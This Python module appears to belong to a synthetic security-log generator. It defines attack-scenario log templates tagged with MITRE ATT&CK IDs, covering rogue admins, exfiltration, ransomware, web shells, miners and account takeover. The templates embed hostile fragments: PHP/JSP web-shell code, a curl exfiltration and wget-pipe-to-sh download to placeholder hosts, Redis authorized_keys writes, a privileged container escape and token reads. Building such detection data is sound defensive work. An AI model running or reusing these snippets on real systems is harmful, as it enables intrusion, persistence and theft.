"""What goes wrong in business and server software when somebody attacks it, in the words of the application."""

from generator.families.applications.business import accounting, crm, erp, etl, hotel, payroll, practice, shop
from generator.families.applications.business import products as business
from generator.families.applications.online import chat, identity, mail_app, vendor_monitor
from generator.families.applications.product import story
from generator.families.applications.servers import compute, container_platform, document_database, relational, search_cluster, virtual_cloud
from generator.families.applications.servers import products as servers
from generator.scene import attack

everything = [*business, *servers]

story("applications/rogue-administrator", [erp, payroll, crm, shop, practice, accounting, identity, chat], r"""
W New user '{word1}' with role ADMIN created by unknown session from {peer1}

W Account {word1} added to group Administrators, requested by <guest|anonymous|(no session)>, {peer1}
?W Password policy switched off by {word1}

E Integrity: table USERS has an administrator '{word1}' that was not created by this application

W Benutzer {word1} als Administrator angelegt von Adresse {peer1}, kein angemeldeter Bearbeiter

W Utilisateur {word1} ajouté comme administrateur sans validation, adresse {peer1}

W role of {user1} raised to superuser through unauthenticated request to /setup from {peer1}

I install wizard opened again by {peer1}
W first administrator '{word1}' created by wizard although setup was finished

W Usuario {word1} creado con permisos de administrador desde {peer1}, sesión desconocida

E audit: grant SUPER to {word1}@% issued by web application account
""", attack("Persistence", "T1136", "T1098"))

story("applications/audit-trail-disabled", everything, r"""
W Audit logging disabled by {user1} from {peer1}

W audit_log table truncated by {user1}, {big} rows lost

E audit: log file deleted while application was running, previous entries are gone

W setting 'logging.audit' changed from true to false by {word1} ({peer1})
?I {word1} removed {many} entries from login history

W Protokollierung ausgeschaltet durch {user1}, Verlauf gelöscht

W Journal d'audit effacé par {user1} ({peer1})

W DELETE FROM login_history WHERE ip='{peer1}' executed by {user1}

E Audit chain broken: {many} records removed between {big} and {big} by direct database access

W server_audit_logging=OFF set by {word1}@{peer1}

W history cleared and log level set to none by {user1} right after privileged session from {peer1}
""", attack("Log Clearing", "T1070", "T1562.001"))

story("applications/mass-export-by-stranger", [erp, payroll, crm, shop, practice, hotel, accounting, etl, relational, document_database], r"""
W User {user1} exported all {big} customer records to {file} from {peer1}

W unusual download volume: {user1} fetched {many} patient files in {few} minutes from {peer1}

E Data loss rule: {big} rows incl. IBAN and card numbers sent to {strange1} by {user1}

I SELECT * FROM customers INTO OUTFILE '/var/www/html/{word1}.csv'
W file {word1}.csv downloaded by {peer1}

W mysqldump of all databases by {service1} from unknown host {peer1}, {big} bytes

W Export aller Kundendaten durch {user1} von fremder Adresse {peer1}, {many} Datensätze

W export complet de la base clients par {user1} vers {strange1}

I backup {file} copied to ftp://{peer1}/in/ by {user1}
W outgoing transfer {big} MB is {n} times above normal

W API key {hex1} read {big} records page by page from {peer1}, key belonged to a former employee

W COPY salaries TO PROGRAM 'curl -T - https://{strange1}/u'
""", attack("Potential Data Exfiltration", "T1567", "T1048", severity="CRITICAL"))

story("applications/records-held-to-ransom", [relational, document_database, search_cluster, erp, crm, practice], r"""
I Dropped database {micro}
E collection READ_ME_TO_RECOVER_YOUR_DATA created by {peer1}

W All indices deleted by {peer1}; index 'read_me' created: 'your data is backed up, send 0.0{n} BTC'

E table WARNING inserted: "All your data is backed up. You must pay {n} XMR to recover it"

W {many} tables dropped by {word1} from {peer1} within {few} s
E new table recover_your_data holds 1 row: 'pay to bitcoin address bc1{hex1}'

E Records unreadable: fields encrypted, note '{note1}' in document folder

E Dokumentenarchiv: {many} Dateien haben die Endung .{ext1}, Datei {note1} gefunden

E document store: {many} attachments renamed to *.{ext1}
E file {note1} found in every customer folder

F ERP data files encrypted: {wpath}.{ext1}, {note1} dropped in {dir}
""", attack("Ransomware Activity", "T1486", "T1485", severity="CRITICAL"))

story("applications/program-runs-shell", everything, r"""
E worker spawned unexpected child: /bin/sh -c {dropper}

W process tree: java -> sh -> {revshell}

E exec of report converter with argument $({dropper})

W PHP Warning: system(): unable to fork [{revshell}]

E ImageMagick delegate failed: {dropper}

W cron expression of job {micro} changed through web form to '* * * * * {dropper}'

E child process of {micro} exited 127: sh: 1: {revshell}

I xp_cmdshell output: powershell -enc <SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA|JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=|aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA=>

W Groovy console: script by anonymous from {peer1}: "{dropper}".execute()

E plugin hook pre-save ran: {revshell}

W backup script hook executed '{dropper}' as root
""", attack("Remote Code Execution Exploit", "T1190", "T1059.004", severity="CRITICAL"))

story("applications/planted-web-file", [shop, crm, hotel, chat, mail_app, erp], r"""
W upload by {peer1}: <avatar.php|logo.phtml|cmd.aspx|up.jsp|image.php.jpg|x.ashx> stored in /uploads/{word1}/

E core file check: unknown file wp-includes/<css/{word1}.php|{word1}.php|class-wp-{word1}.php> contains eval(base64_decode($_POST[

W POST /uploads/{word1}.php?cmd=<id|whoami|uname+-a|ls> from {peer1} answered 200

E integrity: index.php modified, prepended <@eval($_REQUEST[0]);|assert($_POST['{word}']);|system($_GET['c']);>

W plugin archive {word1}.zip contains shell.php with passthru(), installed by {peer1}

E Datei /files/{word1}.jspx enthält Runtime.getRuntime().exec(request.getParameter("c"))

W template 404.tpl saved by {user1} from {peer1}: <?php @eval($_COOKIE['{word1}']); ?>
""", attack("Web Shell", "T1505.003", severity="CRITICAL"))

story("applications/suspicious-extension-installed", [shop, crm, chat, container_platform, vendor_monitor, identity], r"""
W plugin '{word1}' installed by {user1} from http://{peer1}/{word1}.zip, signature missing

E extension {word1} opens outbound connection to {strange1}:8443 every 60 s

W module {word1} <registers login hook and writes passwords to|collects form fields card_number, cvv and posts them to> https://{strange1}/<g.php|collect|c>

E checkout page includes script https://{strange1}/<jquery.min.js|gtm.js|stat.js> that is not part of any theme

W authentication plugin {word1}.so loaded from /tmp by {user1}

W daemonset {word1} in kube-system created by {user1}: image docker.io/{word}/{word}, hostPID, privileged, mount /

E OAuth application '{word1}' with mail.read and offline_access consented by {n} users today, publisher unknown
""", attack("Persistence", "T1505", "T1546"))

story("applications/miner-in-container", [container_platform, compute, virtual_cloud, document_database], r"""
W container {hex1}: process <xmrig|kdevtmpfsi|./{word1}|kworkerds> -o pool.<minexmr.com|supportxmr.com|hashvault.pro>:3333 --donate-level 1

I [{date}] net use pool {peer1}:<3333|14444|443> TLSv1.3 {hex}
I cpu accepted ({n}/0) diff {many} ({n} ms)

W pod {micro}-{hex1} cpu {pct}x request, command: /tmp/.{word1} --algo rx/0 --url stratum+tcp://{peer1}:4444

W job {word1} submitted by <guest|dr.who|anonymous>: wget -q -O - http://{peer1}/<xmr.sh|mi.sh|a.sh> | sh

I speed 10s/60s/15m {float} {float} {float} H/s max {float} H/s
I new job from {peer1}:3333 diff {many} algo rx/0

W image {word1}/{word}:latest pulled by anonymous api request, entrypoint starts t-rex -a ethash -o stratum+ssl://{strange1}:4433

E instance {uuid} flagged by provider: traffic to mining pool {strange1}
""", attack("Cryptomining", "T1496"))

story("applications/cluster-opened-up", [container_platform, virtual_cloud, document_database, search_cluster], r"""
W clusterrolebinding {word1} binds cluster-admin to system:anonymous, created from {peer1}

W exec into pod {micro}-{hex1} by system:anonymous from {peer1}: sh -c '{dropper}'

I CONFIG SET dir /root/.ssh
W CONFIG SET dbfilename authorized_keys by client {peer1}:{port}

W SLAVEOF {peer1} 21000 issued by unauthenticated client
E module /tmp/{word1}.so loaded

W create container: privileged=true binds=/:/mnt cmd=chroot /mnt sh -c '{dropper}' via tcp 2375 from {peer1}

W anonymous access to kubelet /run/kube-system/{micro} cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token from {peer1}

W security group {hex1} opened to 0.0.0.0/0 all ports by {user1} with stolen session

W secrets listed in all namespaces by serviceaccount {micro} from {peer1} ({n} secrets)
""", attack("Remote Code Execution Exploit", "T1190", "T1609", severity="CRITICAL"))

story("applications/session-stolen", [identity, crm, mail_app, chat, erp], r"""
W session {uuid1} of {user1} used from {peer1} and {wan2} within {few} min, impossible travel

W {user1} approved push after {n} prompts from {peer1}

E refresh token of {user1} reused by {peer1}, token family revoked

W login of {user1} from anonymising network {peer1}, recovery address changed to {word1}@<proton.me|mail.ru>
?W second factor of {user1} removed

W Anmeldung {user1} aus unbekanntem Land, danach Kontoverbindung geändert

W {user1} denied {n} login prompts, reported: 'that was not me'
I prompt {n} accepted from {peer1}

W SIM swap suspected: SMS code of {user1} confirmed from {peer1}, password changed one minute later
""", attack("Account Takeover", "T1078", "T1621"))

story("applications/names-tried-one-after-another", [identity, mail_app, crm, shop, chat], r"""
*W password reset asked for unknown user {user} by {peer1}

*W login: no such account '{user}' ({peer1})

*W VRFY {user} from {peer1}: 550 unknown

*I GET /api/users?name={user} 404 {peer1}

*W Benutzer {user} existiert nicht, Anfrage von {peer1}

*W sign-up check: address {mail} free, client {peer1}, {n} checks per second
""", attack("User Enumeration", "T1589.001", "T1087", severity="MEDIUM"))

story("applications/leaked-passwords-tried", [identity, shop, crm, mail_app, hotel], r"""
*W login failed: {mail} from {ip}, password is on breach list, ua=python-requests

*W {mail} / {wan} wrong password, device fingerprint {hex1}
I {mail} logged in, device fingerprint {hex1}

*I signin failure email={mail} asn=hosting client=okhttp/{few}.1 ip={wan}
W bot score 99, {many} accounts tried in an hour
""", attack("Credential Stuffing Attack", "T1110.004"))

story("applications/secrets-read", [container_platform, virtual_cloud, relational, identity, etl], r"""
W file .env requested through debug page by {peer1}, 200, contains DB_PASSWORD

W /actuator/heapdump downloaded by {peer1}, {big} bytes

W vault: {user1} listed and read {n} secrets in {few} s from {peer1}, normally 2 a day

W SELECT usename, passwd FROM pg_shadow by {word1}@{peer1}

E password store exported in clear text by {user1} ({peer1})

W service account key of {service1} created and downloaded from {peer1}

W keytab and ntds dump found in upload folder of {user1}

W metadata token of node {host} requested by pod {micro}-{hex1}
""", attack("Credential Theft", "T1552.001", "T1552.005", severity="CRITICAL"))

story("applications/scanned-by-a-tool", everything, r"""
*W unknown command from {peer1}: <HELP|NESSUS|\x16\x03\x01|OPTIONS / RTSP/1.0|JRMI|GIOP>

*I 404 <.git/config|wp-login.php|phpmyadmin/|.env|actuator/env|solr/admin|boaform/admin|HNAP1|cgi-bin/luci> {peer1}

*W protocol error from {peer1}:{port}: bad first packet, connection closed

+W probe by {peer1}: user agent <Nuclei|sqlmap/1.7|Nikto/2.5|zgrab/0.x|WPScan|gobuster/3.6|masscan/1.3>
""", attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM"))

story("applications/flooded", everything, r"""
*W connection limit reached, {many} half-open sockets from {peer1}

W {many} requests per second from {n} addresses, workers exhausted, HTTP flood pattern
E service stopped answering, queue {many}

*E out of file descriptors, {many} slow connections held by {peer1}

W mitigation active: {n} Gbit/s UDP from {many} sources towards {lan}

*W request body trickles 1 byte/s from {peer1}, {many} such connections
""", attack("Denial of Service / DDoS Attack", "T1499", "T1498"))

story("applications/bank-details-swindle", [payroll, erp, accounting, crm, mail_app], r"""
W bank account of {n} employees changed to the same IBAN by {user1} from {peer1}

W supplier {big} IBAN changed on mail request, sender domain {strange1} differs from known one

E payment run {big}: {n} transfers to new account in other country, created by {user1} from {peer1}, approver identical

W Bankverbindung von {n} Lieferanten innerhalb von {few} min geändert, Benutzer {user1}, Adresse {peer1}
""", attack("Account Takeover", "T1078", "T1565.001"))

story("applications/mail-rules-and-lures", [mail_app, chat, crm], r"""
W rule '{word1}' of {user1}: forward all to {word1}@<gmail.com|proton.me|outlook.com> and delete, created from {peer1}

W message {hex} to {n} staff: sender shown as director, reply-to {word1}@{strange1}, asks for gift cards

E attachment <invoice.pdf.exe|Scan_{n}.iso|order.html|payment.xlsm|dhl.js> from {peer1} released by user, macro dropper found by scanner

W link https://{strange1}/<login|owa|sharepoint>/ opened by {n} users, page imitates our sign-in

W {user1} sends {many} messages with link to {strange1} to all contacts
""", attack("Phishing or Malicious Mail", "T1566.002", "T1114.003"))
